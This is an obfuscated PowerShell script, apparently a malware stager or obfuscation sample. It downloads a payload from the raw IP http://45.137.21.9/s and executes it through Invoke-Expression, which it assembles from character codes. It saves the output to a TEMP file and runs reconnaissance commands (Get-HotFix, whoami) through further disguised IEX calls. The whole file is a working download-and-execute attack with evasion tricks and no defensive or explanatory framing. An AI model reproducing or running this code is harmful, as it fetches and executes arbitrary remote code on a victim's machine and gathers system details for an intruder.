$u = 'http://45.137.21.9/s'
$n = ('Ne' + 'w-Ob' + 'ject')
$wc = & $n ('Net.' + 'WebC' + 'lient')
$r = 'gnirtSdaolnwoD'
$m = -join $r[-1..-($r.Length)]
$code = $wc.$m($u)

$x = & ([char]73 + [char]110 + [char]118 + [char]111 + [char]107 + [char]101 + '-' + [char]69 + [char]120 + [char]112 + [char]114 + [char]101 + [char]115 + [char]115 + [char]105 + [char]111 + [char]110) $code
$x | Out-File -FilePath "$env:TEMP\out.txt"

.("{1}{0}" -f 'X', 'IE') ('Get-Hot' + 'Fix')
&($env:ComSpec[4, 15, 25] -join '') 'whoami'
